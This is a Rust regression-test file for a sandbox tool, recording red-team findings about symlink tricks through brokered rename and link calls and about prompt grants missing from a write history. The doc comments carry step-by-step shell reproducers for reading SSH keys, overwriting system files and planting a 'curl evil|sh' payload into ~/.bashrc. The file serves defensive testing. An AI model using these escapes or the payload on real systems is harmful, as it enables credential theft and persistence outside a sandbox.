//! Escapes found by the second adversarial (red-team) pass, over the features merged for
//! issue 11 and the egress proxy (runtime grants of path operations, learn's broad domain,
//! spine listing, the proxy), kept as regression tests: each failed on the code it was
//! written against and passes since the fix (see docs/THREAT_MODEL.md, "Red team 2"). Names
//! start with `redteam2_`.

use crate::harness::Scratch;
use crate::programs::{bins, in_nono, marker, probe_bare, Mode, TestUser};

/// RED TEAM 2 finding 1: `--approve DIR` brokers `rename(2)` and `link(2)`, and each name
/// is asked of the policy engine only when it lies *outside the static grants*, judged by
/// `path_ops::outside` on the **lexical** path (`StaticGrants::fast_allows(parent)`). A name
/// whose lexical parent is inside a write grant but *is a symlink* to a directory
/// outside every grant is therefore "inside" and never asked — not even of the deny groups;
/// the supervisor then canonicalises the parent (following the symlink) and performs the
/// call there, as the child. Landlock would have refused every one of these. With
/// `--allow proj --approve appr` (root, or any user on what it owns):
/// - `ln -s ~/.ssh proj/s; mv proj/s/id_rsa appr/k; mv appr/k proj/k; cat proj/k`: **the
///   deny-group key is read** (moved out of the carve-out into the approval, then into the
///   static grant: an open in the approval checks deny entries by inode, Landlock does not);
/// - `ln -s $HOME/.. proj/top; mv proj/top/$USER appr/h; mv appr/h proj/h;
///   cat proj/h/.ssh/id_*; mv proj/h appr/h; mv appr/h proj/top/$USER`: the whole home,
///   carve-outs and all, is moved out, every key read, and moved back — no trace;
/// - `ln -s /anywhere proj/l; ln proj/l/FILE appr/x; cat appr/x`: **read anything** (a hard
///   link: the original stays);
/// - `mv appr/evil proj/l/FILE` or `ln appr/evil proj/l/NEW`: **write anything** the user
///   can write (root: `/etc/passwd`, `/etc/cron.d/x`, `/etc/ld.so.preload`);
/// - `ln -s ~ proj/hl; mv appr/rc proj/hl/.bashrc`: **a deny-group file is replaced**
///   (`shell`: runs outside the sandbox in the user's next shell).
///
/// (`link` of a deny-group file is caught by `Engine::refuse_opened`'s inode check; `rename`
/// has no such check, and the directory holding the carve-out has none either.)
///
/// Reproducer (root; `D` is any directory no grant covers; the symlinks are made by the
/// sandboxed command itself, in its write grant):
/// ```text
/// D=$PWD; mkdir -p home/.ssh proj appr out; echo KEY > home/.ssh/id_rsa; echo secret > out/f
/// cd /; HOME=$D/home nono run --allow $D/proj --approve $D/appr -- sh -c "
///   ln -s $D/home/.ssh $D/proj/s; ln -s $D/out $D/proj/l; ln -s $D/home $D/proj/hl
///   cat $D/home/.ssh/id_rsa $D/out/f                                  # EACCES, EACCES
///   mv $D/proj/s/id_rsa $D/appr/k; mv $D/appr/k $D/proj/k; cat $D/proj/k   # KEY
///   ln $D/proj/l/f $D/appr/x; cat $D/appr/x                           # secret
///   echo 'curl evil|sh' > $D/appr/rc; mv $D/appr/rc $D/proj/hl/.bashrc"   # planted
/// ```
/// Fix direction: decide every name of a brokered operation on its canonical parent (a
/// name is "inside the static grants" only if the canonical parent is), check the deny
/// groups for every name and for what lies beneath a moved directory, and perform on the
/// objects that were decided.
#[test]
fn redteam2_approve_rename_through_symlinked_granted_parent_reaches_outside() {
    let Some(b) = bins() else { return };
    let secret = marker("rt2-rename");
    let key = marker("rt2-key");
    let setup = |s: &Scratch| {
        s.mkdir("proj");
        s.mkdir("appr");
        s.write("home/.ssh/id_rsa", &key);
        s.write("home/.ssh/id_ed25519", &key);
        s.write("outside/f", &secret);
        s.write("outside/g", "orig\n");
        s.write("appr/evil", "evil\n");
        s.write("appr/rc", "curl evil | sh\n");
        s.write("home/.bashrc", "orig\n");
        std::os::unix::fs::symlink(s.join("home"), s.join("proj/hl")).unwrap();
        std::os::unix::fs::symlink(s.join("home/.ssh"), s.join("proj/s")).unwrap();
        std::os::unix::fs::symlink(&s.path, s.join("proj/top")).unwrap();
        std::os::unix::fs::symlink(s.join("outside"), s.join("proj/l")).unwrap();
    };
    let steps = |s: &Scratch| -> Vec<String> {
        [
            ["read", "direct_read", &s.s("outside/f"), ""],
            ["read", "direct_key", &s.s("home/.ssh/id_rsa"), ""],
            ["rename", "steal_key", &s.s("proj/s/id_rsa"), &s.s("appr/k")],
            // Opens in the approval check the deny entries by inode; one more brokered
            // rename puts the key where a static grant reads it (Landlock, no such check).
            ["rename", "key_to_proj", &s.s("appr/k"), &s.s("proj/k")],
            ["read", "stolen_key", &s.s("proj/k"), ""],
            ["rename", "move_home", &s.s("proj/top/home"), &s.s("appr/h")],
            ["rename", "home_to_proj", &s.s("appr/h"), &s.s("proj/h")],
            ["read", "moved_home_key", &s.s("proj/h/.ssh/id_ed25519"), ""],
            ["rename", "home_back1", &s.s("proj/h"), &s.s("appr/h")],
            [
                "rename",
                "home_back2",
                &s.s("appr/h"),
                &s.s("proj/top/home"),
            ],
            ["link", "link_out", &s.s("proj/l/f"), &s.s("appr/x")],
            ["read", "linked_read", &s.s("appr/x"), ""],
            ["rename", "plant", &s.s("appr/evil"), &s.s("proj/l/g")],
            [
                "rename",
                "plant_bashrc",
                &s.s("appr/rc"),
                &s.s("proj/hl/.bashrc"),
            ],
        ]
        .iter()
        .flat_map(|st| st.iter().filter(|a| !a.is_empty()).map(|a| a.to_string()))
        .collect()
    };

    let s = Scratch::new("redteam2-rename");
    setup(&s);
    let out = in_nono(
        Mode::Run,
        &s.join("proj"),
        &[("HOME", &s.s("home"))],
        &["--allow", &s.s("proj"), "--approve", &s.s("appr")],
        &b.probe(),
        &steps(&s),
    );
    // The sandbox is in force: neither file is readable directly.
    out.expect(&[("direct_read", "EACCES"), ("direct_key", "EACCES")]);
    let key_moved = !s.join("home/.ssh/id_rsa").exists();
    let planted = std::fs::read_to_string(s.join("outside/g")).unwrap_or_default() != "orig\n";
    let linked = s.join("appr/x").exists();
    let bashrc = std::fs::read_to_string(s.join("home/.bashrc")).unwrap_or_default() != "orig\n";
    out.expect(&[
        ("steal_key", "EACCES"),
        ("move_home", "EACCES"),
        ("link_out", "EACCES"),
        ("plant", "EACCES"),
        ("plant_bashrc", "EACCES"),
    ])
    .never_printed(&key)
    .never_printed(&secret);
    assert!(!key_moved, "the deny-group key was moved out\n{}", out.run);
    assert!(
        !planted,
        "a file outside every grant was replaced\n{}",
        out.run
    );
    assert!(
        !linked,
        "a file outside every grant was linked in\n{}",
        out.run
    );
    assert!(
        !bashrc,
        "~/.bashrc (deny group `shell`) was replaced\n{}",
        out.run
    );

    // An unprivileged user, on its own files: the same escape (the supervisor acts with the
    // user's ids, so DAC still holds; the grants and the deny groups do not).
    if let Some(user) = TestUser::create("rt2") {
        let s = Scratch::new("redteam2-rename-user");
        setup(&s);
        chown_tree(&s.path, user.uid, user.gid);
        let out = user.probe_in(
            Mode::Run,
            &s.join("proj"),
            &s.join("home"),
            &["--allow", &s.s("proj"), "--approve", &s.s("appr")],
            &steps(&s),
        );
        out.expect(&[("direct_read", "EACCES"), ("direct_key", "EACCES")]);
        out.expect(&[
            ("steal_key", "EACCES"),
            ("link_out", "EACCES"),
            ("plant_bashrc", "EACCES"),
        ])
        .never_printed(&key)
        .never_printed(&secret);
    } else {
        eprintln!("no test user could be created: the unprivileged case is not run");
    }

    // The control: unsandboxed, the same steps read the key and the file and plant.
    let s = Scratch::new("redteam2-rename-bare");
    setup(&s);
    let bare = probe_bare(&s.join("proj"), &steps(&s));
    bare.expect(&[
        ("steal_key", "ok"),
        ("key_to_proj", "ok"),
        ("stolen_key", "ok"),
        ("link_out", "ok"),
        ("linked_read", "ok"),
        ("plant", "ok"),
        ("plant_bashrc", "ok"),
    ]);
}

/// `chown -R uid:gid path` (symlinks themselves, not their targets).
fn chown_tree(path: &std::path::Path, uid: u32, gid: u32) {
    std::os::unix::fs::lchown(path, Some(uid), Some(gid)).unwrap();
    if std::fs::symlink_metadata(path).unwrap().is_dir() {
        for e in std::fs::read_dir(path).unwrap() {
            chown_tree(&e.unwrap().path(), uid, gid);
        }
    }
}

/// RED TEAM 2 finding 2: a write the user grants **at the prompt** (`--capability-elevation`,
/// `[y]es once`, `[a]lways`, `[d]irectory`) is not recorded in nono's history of write grants
/// (`write-grants.jsonl`, `plan.rs::record_write_grants` records the static write grants and
/// `--approve` directories at start only). A symlink the command makes through such a grant
/// is therefore trusted by a later run whose grant goes through it: the later run only
/// prints "goes through the symlink ... the sandbox is granted the target" and grants the
/// target, instead of refusing it unless named with `--allow-symlinked-grant` (what it does
/// for a link made under a static grant, `--approve` or `learn`). "Nothing a sandboxed run
/// can write is trusted later" does not hold for prompt grants.
///
/// Reproducer (root or any user, on a terminal):
/// ```text
/// mkdir -p other tgt
/// nono run --capability-elevation -- ln -s $PWD/tgt other/out     # answer y
/// nono run --allow other/out -- sh -c 'echo x > other/out/x'       # writes tgt/x
/// ```
/// Fix direction: record a directory (or file) write grant made at runtime in the history
/// when it is made (the supervisor's session grants), as `--approve` directories are.
#[test]
fn redteam2_prompt_granted_write_is_not_in_the_write_history() {
    use std::io::Write as _;
    use std::process::{Command, Stdio};
    use std::time::{Duration, Instant};

    use crate::harness::{nono_bin, open_pty, output, read_on_a_thread, wait_for_output};

    let Some(_b) = bins() else { return };
    let s = Scratch::new("redteam2-prompt-history");
    s.mkdir("other");
    s.mkdir("tgt");
    s.mkdir("state");
    let (out, tgt) = (s.join("other/out"), s.join("tgt"));

    // The control: the same link made through a static grant (`--allow other`) is in the
    // history, and the later run refuses it.
    let with_state = |args: &[&str]| {
        let mut cmd = crate::harness::nono_cmd(&s.path);
        cmd.env("XDG_STATE_HOME", s.join("state"))
            .stdin(Stdio::null())
            .args(args);
        output(&mut cmd)
    };
    let ctl = s.join("other/ctl");
    with_state(&[
        "run",
        "--allow",
        &s.s("other"),
        "--",
        "ln",
        "-s",
        &s.s("tgt"),
        &s.s("other/ctl"),
    ])
    .expect_code(0);
    with_state(&["run", "--allow", &s.s("other/ctl"), "--", "true"])
        .expect_code(125)
        .stderr_has(&format!("--allow-symlinked-grant {}", ctl.display()));
    // A fresh history for the attack itself.
    std::fs::remove_dir_all(s.join("state")).unwrap();
    s.mkdir("state");

    // Run 1: the command makes other/out -> tgt; the user answers `y` at the prompt.
    let (mut writer, slave) = open_pty();
    let mut child = Command::new("setsid")
        .args(["-w", "-c"])
        .arg(nono_bin())
        .args(["run", "--capability-elevation", "--", "ln", "-s"])
        .arg(&tgt)
        .arg(&out)
        .current_dir(&s.path)
        .env("XDG_STATE_HOME", s.join("state"))
        .stdin(Stdio::from(slave.try_clone().unwrap()))
        .stdout(Stdio::from(slave.try_clone().unwrap()))
        .stderr(Stdio::from(slave))
        .spawn()
        .unwrap();
    let rx = read_on_a_thread(&writer);
    let mut seen = String::new();
    wait_for_output(&rx, &mut seen, "Allow?", Duration::from_secs(120));
    writer.write_all(b"y\r").unwrap();
    let guard = Instant::now() + Duration::from_secs(120);
    let status = loop {
        if let Some(st) = child.try_wait().unwrap() {
            break st;
        }
        assert!(Instant::now() < guard, "run 1 did not exit\n{seen}");
        std::thread::sleep(Duration::from_millis(50));
    };
    assert!(status.success(), "run 1 failed: {status}\n{seen}");
    assert_eq!(
        std::fs::read_link(&out).ok().as_deref(),
        Some(tgt.as_path())
    );

    // Run 2: a grant through the link the sandbox made must be refused unless named.
    let run2 = {
        let mut cmd = crate::harness::nono_cmd(&s.path);
        cmd.env("XDG_STATE_HOME", s.join("state"))
            .stdin(Stdio::null())
            .args(["run", "--allow", &s.s("other/out"), "--", "sh", "-c"])
            .arg(format!("echo planted > '{}/x'", out.display()));
        output(&mut cmd)
    };
    let wrote = tgt.join("x").exists();
    run2.expect_code(125)
        .stderr_has(&format!("--allow-symlinked-grant {}", out.display()));
    assert!(!wrote, "run 2 wrote through the link run 1 made\n{run2}");
}

/// RED TEAM 2 finding 1, with nothing but `--approve DIR`: the default profile's own write
/// grant (`/tmp`) is the "inside" name. `ln -s ~/.ssh /tmp/X/s; mv /tmp/X/s/id_rsa DIR/k;
/// mv DIR/k /tmp/X/k; cat /tmp/X/k; mv /tmp/X/k DIR/k2; mv DIR/k2 /tmp/X/s/id_rsa` reads the
/// key and puts it back.
#[test]
fn redteam2_approve_alone_reads_the_key_through_default_tmp() {
    let Some(b) = bins() else { return };
    let key = marker("rt2-tmp-key");
    let s = Scratch::new("redteam2-approve-tmp");
    s.mkdir("appr");
    s.write("home/.ssh/id_rsa", &key);
    let in_tmp = crate::harness::InTmp::new("rt2");
    let tmp = in_tmp.0.clone();
    std::fs::create_dir(&tmp).unwrap();
    std::os::unix::fs::symlink(s.join("home/.ssh"), tmp.join("s")).unwrap();
    let t = |p: &str| tmp.join(p).display().to_string();
    let out = in_nono(
        Mode::Run,
        &s.path,
        &[("HOME", &s.s("home"))],
        &["--approve", &s.s("appr")],
        &b.probe(),
        &[
            "read",
            "direct_key",
            &s.s("home/.ssh/id_rsa"), //
            "rename",
            "steal_key",
            &t("s/id_rsa"),
            &s.s("appr/k"), //
            "rename",
            "key_to_tmp",
            &s.s("appr/k"),
            &t("k"), //
            "read",
            "stolen_key",
            &t("k"), //
        ],
    );
    // Put the key back whatever happened.
    for p in [tmp.join("k"), s.join("appr/k")] {
        if p.exists() {
            let _ = std::fs::rename(&p, s.join("home/.ssh/id_rsa"));
        }
    }
    let _ = std::fs::remove_dir_all(&tmp);
    out.expect(&[("direct_key", "EACCES"), ("steal_key", "EACCES")])
        .never_printed(&key);
}
